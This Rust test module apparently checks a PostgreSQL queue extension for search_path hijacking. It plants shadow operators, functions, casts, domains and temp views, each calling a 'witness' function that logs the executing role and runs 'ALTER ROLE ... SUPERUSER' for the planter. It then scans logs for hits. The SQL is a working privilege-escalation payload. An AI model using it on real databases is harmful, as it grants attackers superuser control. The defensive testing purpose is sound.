//! What a hostile role creates and hopes that a role with more rights will run: operators,
//! functions, types and casts that a search_path may put before PostgreSQL's own. Each of these
//! plants writes to the server's log as which role it ran, and makes its planter a superuser if it
//! can.

use anyhow::{Result, ensure};

use crate::Session;

/// The function that every plant calls.
const WITNESS: &str = r"
SET search_path = pg_catalog;
CREATE FUNCTION {schema}.witness(what text) RETURNS boolean LANGUAGE plpgsql AS $$
DECLARE is_super boolean;
BEGIN
    SELECT rolsuper INTO is_super FROM pg_catalog.pg_roles
        WHERE rolname OPERATOR(pg_catalog.=) current_user;
    RAISE LOG 'planted by {planter}: ran as % (superuser: %): %', current_user, is_super, what;
    IF is_super THEN
        EXECUTE 'ALTER ROLE {planter} SUPERUSER';
    END IF;
    RETURN true;
END
$$;";

/// Copies of the operators and functions of PostgreSQL on the types that a message broker may use.
/// They are found first where their schema stands before pg_catalog.
const TWINS: &str = r#"
DO $plant$
DECLARE o record;
BEGIN
    FOR o IN
        SELECT row_number() OVER () AS n, oprname AS name, format_type(oprleft, NULL) AS l,
            format_type(oprright, NULL) AS r, format_type(oprresult, NULL) AS result
        FROM pg_operator
        WHERE oprnamespace = 'pg_catalog'::regnamespace AND oprkind = 'b'
          AND ARRAY[oprleft, oprright] <@ ARRAY['int2', 'int4', 'int8', 'text', 'name', 'bool',
              'timestamptz', 'interval', 'jsonb', 'uuid', 'bytea', 'float8', 'numeric', 'oid',
              'xid8', 'pg_lsn', 'anyarray', 'anynonarray', 'anycompatiblearray', 'anycompatible',
              'text[]']::regtype[]::oid[]
    LOOP
        EXECUTE format('CREATE FUNCTION {schema}.twin_%s(%s, %s) RETURNS %s LANGUAGE plpgsql AS $f$
            BEGIN PERFORM {schema}.witness(%L); RETURN $1 OPERATOR(pg_catalog.%s) $2; END $f$',
            o.n, o.l, o.r, o.result, concat_ws(' ', 'operator', o.l, o.name, o.r), o.name);
        EXECUTE format('CREATE OPERATOR {schema}.%s
            (LEFTARG = %s, RIGHTARG = %s, FUNCTION = {schema}.twin_%s)', o.name, o.l, o.r, o.n);
    END LOOP;
    FOR o IN
        SELECT proname AS name, oidvectortypes(proargtypes) AS args,
            pg_get_function_result(oid) AS result, proretset AS is_set, prokind,
            (SELECT string_agg('$' || i, ', ') FROM generate_series(1, pronargs) AS i) AS passed
        FROM pg_proc
        WHERE pronamespace = 'pg_catalog'::regnamespace AND prokind IN ('f', 'a')
            AND provariadic = 0
          AND proallargtypes IS NULL AND pronargs < 6
          AND NOT proargtypes::oid[]
              && ARRAY['internal', 'cstring', '"any"', 'trigger']::regtype[]::oid[]
          AND prorettype <> ALL (ARRAY['internal', 'cstring', '"any"', 'trigger',
              'event_trigger', 'record', 'language_handler', 'fdw_handler', 'table_am_handler',
              'index_am_handler', 'tsm_handler']::regtype[]::oid[])
          AND prolang IN (12, 14)
          AND proname ~ ('^(now|.*timestamp|.*nextval|unnest|array_|.*json|starts|lower|upper'
              || '|format|hash|min|max|sum|abs|pg_|coal|count|length|octet|sub|left'
              || '|right|concat|string_|to_|date_|make_|encode|decode|md5|text|int[248]'
              || '|interval|bool|set_|current|gen_|cardinality|generate|uuid|float'
              || '|numeric|ceil|floor|round|power|name|regexp|replace|rtrim|ltrim|btrim'
              || '|txid|xid|oid|greatest|age|extract|convert|position|strpos|last|random'
              || '|sha|overlay|quote|trim|row|rank|like|byte|char|bit|to)')
    LOOP
        BEGIN
            EXECUTE format('CREATE FUNCTION {schema}.%I(%s) RETURNS %s LANGUAGE plpgsql AS $f$
                BEGIN PERFORM {schema}.witness(%L); %s; END $f$', o.name, o.args, o.result,
                format('function %s(%s)', o.name, o.args),
                CASE WHEN o.prokind = 'a' THEN 'RETURN NULL'
                     WHEN o.result = 'void' THEN format('PERFORM pg_catalog.%I(%s)',
                         o.name, o.passed)
                     WHEN o.is_set THEN format('RETURN QUERY SELECT * FROM pg_catalog.%I(%s)',
                         o.name, o.passed)
                     ELSE format('RETURN pg_catalog.%I(%s)', o.name, o.passed) END);
        EXCEPTION WHEN undefined_function OR invalid_function_definition OR feature_not_supported
            OR syntax_error OR duplicate_function THEN NULL;
        END;
    END LOOP;
END
$plant$;"#;

/// Types with the names of PostgreSQL's own, and casts from those.
const TYPES: &str = r#"
DO $plant$
DECLARE t text;
BEGIN
    CREATE TYPE {schema}.target AS (a int);
    FOREACH t IN ARRAY ARRAY['int8', 'text', 'jsonb', 'timestamptz', 'uuid'] LOOP
        EXECUTE format('CREATE FUNCTION {schema}.to_target(%s) RETURNS {schema}.target
            LANGUAGE plpgsql AS $f$ BEGIN PERFORM {schema}.witness(%L); RETURN NULL; END $f$',
            t, 'cast of ' || t);
        EXECUTE format('CREATE CAST (%s AS {schema}.target)
            WITH FUNCTION {schema}.to_target(%1$s) AS IMPLICIT', t);
    END LOOP;
    FOREACH t IN ARRAY ARRAY['text', 'jsonb', 'uuid', 'bytea', 'int8', 'int4', 'timestamptz',
        'name', 'oid', 'regclass', 'regnamespace', 'xid8', 'pg_lsn', 'float8', 'bool'] LOOP
        EXECUTE format('CREATE DOMAIN {schema}.%I AS pg_catalog.%1$I
            CHECK ({schema}.witness(%L))', t, 'domain ' || t);
    END LOOP;
END
$plant$;
CREATE COLLATION {schema}."C" FROM pg_catalog."POSIX";"#;

/// Operators on pairs of types for which PostgreSQL has none. Wherever the search_path finds them,
/// also after pg_catalog, they are preferred to a cast.
const CLOSER: &str = r"
DO $plant$
DECLARE o record;
BEGIN
    FOR o IN
        SELECT row_number() OVER () AS n, op, l, r
        FROM unnest(ARRAY['=', '<>', '<', '>', '<=', '>=', '+', '-', '*', '/', '%', '||', '<<',
                 '->', '->>', '@>']) AS op,
             unnest(ARRAY['int2', 'int4', 'int8', 'text', 'name', 'varchar', 'numeric', 'float8',
                 'interval', 'timestamptz', 'jsonb', 'uuid', 'int8[]', 'text[]', 'jsonb[]']) AS l,
             unnest(ARRAY['int2', 'int4', 'int8', 'text', 'name', 'varchar', 'numeric', 'float8',
                 'interval', 'timestamptz', 'jsonb', 'uuid', 'int8[]', 'text[]', 'jsonb[]']) AS r
        WHERE NOT EXISTS (SELECT FROM pg_operator WHERE oprname = op AND oprleft = l::regtype
            AND oprright = r::regtype)
    LOOP
        EXECUTE format('CREATE FUNCTION {schema}.closer_%s(%s, %s) RETURNS %s
            LANGUAGE plpgsql AS $f$ BEGIN PERFORM {schema}.witness(%L); RETURN NULL; END $f$',
            o.n, o.l, o.r,
            CASE WHEN o.op IN ('=', '<>', '<', '>', '<=', '>=', '@>') THEN 'bool' ELSE o.l END,
            concat_ws(' ', 'operator', o.l, o.op, o.r));
        EXECUTE format('CREATE OPERATOR {schema}.%s
            (LEFTARG = %s, RIGHTARG = %s, FUNCTION = {schema}.closer_%s)', o.op, o.l, o.r, o.n);
    END LOOP;
END
$plant$;";

/// What a session can create for itself: relations named like the extension's and the catalogue's.
/// They come before PostgreSQL's own where the search_path does not name pg_temp.
const TEMPORARY: &str = r"
DO $plant$
DECLARE t text;
BEGIN
    FOREACH t IN ARRAY ARRAY['queue', 'segment', 'admission', 'consumer_group', 'cursor',
        'claim', 'progress', 'discovery', 'tally', 'waterline', 'timer', 'replay', 'lease_set',
        'receipt', 'dead_letter', 'marker', 'sweep', 'identity'] LOOP
        EXECUTE format('CREATE TEMP TABLE %I (id bigint, name text)', t);
    END LOOP;
    FOREACH t IN ARRAY ARRAY['pg_class', 'pg_extension', 'pg_namespace', 'pg_proc',
        'pg_database', 'pg_roles', 'pg_authid', 'pg_locks', 'pg_constraint', 'pg_settings'] LOOP
        BEGIN
            EXECUTE format('CREATE TEMP VIEW %I AS SELECT * FROM pg_catalog.%1$I
                WHERE pg_temp.witness(%L)', t, 'view ' || t);
        EXCEPTION WHEN insufficient_privilege THEN NULL;
        END;
    END LOOP;
END
$plant$;
CREATE FUNCTION pg_temp.queen_push(text, jsonb) RETURNS boolean LANGUAGE sql AS $$
    SELECT pg_temp.witness('queen_push') $$;";

async fn run(session: &Session, planter: &str, schema: &str, parts: &[&str]) -> Result<()> {
    for part in parts {
        let sql = part.replace("{schema}", schema).replace("{planter}", planter);
        session.run(&sql).await?;
    }
    Ok(())
}

/// Plant into a schema of the planter, which a search_path will name before pg_catalog.
pub async fn before_all(session: &Session, planter: &str, schema: &str) -> Result<()> {
    session
        .run(&format!("CREATE SCHEMA {schema}; GRANT USAGE ON SCHEMA {schema} TO PUBLIC"))
        .await?;
    run(session, planter, schema, &[WITNESS, TWINS, TYPES]).await?;
    let sql = format!("SELECT count(*) FROM pg_proc WHERE pronamespace = '{schema}'::regnamespace");
    let planted = session.count(&sql).await?;
    ensure!(planted > 700, "{planted} functions are planted");
    session.run("RESET search_path").await?;
    Ok(())
}

/// Plant into a schema in which every role may create.
pub async fn among_others(session: &Session, planter: &str, schema: &str) -> Result<()> {
    run(session, planter, schema, &[WITNESS, CLOSER]).await?;
    session.run("RESET search_path").await?;
    Ok(())
}

/// Plant into the temporary schema of this session.
pub async fn in_session(session: &Session, planter: &str) -> Result<()> {
    run(session, planter, "pg_temp", &[WITNESS, TEMPORARY]).await?;
    session.run("RESET search_path").await?;
    Ok(())
}

/// The lines of the server's log in which a plant ran as another role than its planter.
pub fn harvest(logged: &str) -> Vec<&str> {
    let mut found: Vec<&str> = logged
        .lines()
        .filter_map(|line| line.split_once("planted by ").map(|(_, rest)| rest))
        .filter(|rest| {
            let is_own = rest
                .split_once(": ran as ")
                .is_some_and(|(planter, as_whom)| as_whom.starts_with(&format!("{planter} ")));
            !is_own
        })
        .collect();
    found.sort_unstable();
    found.dedup();
    found
}
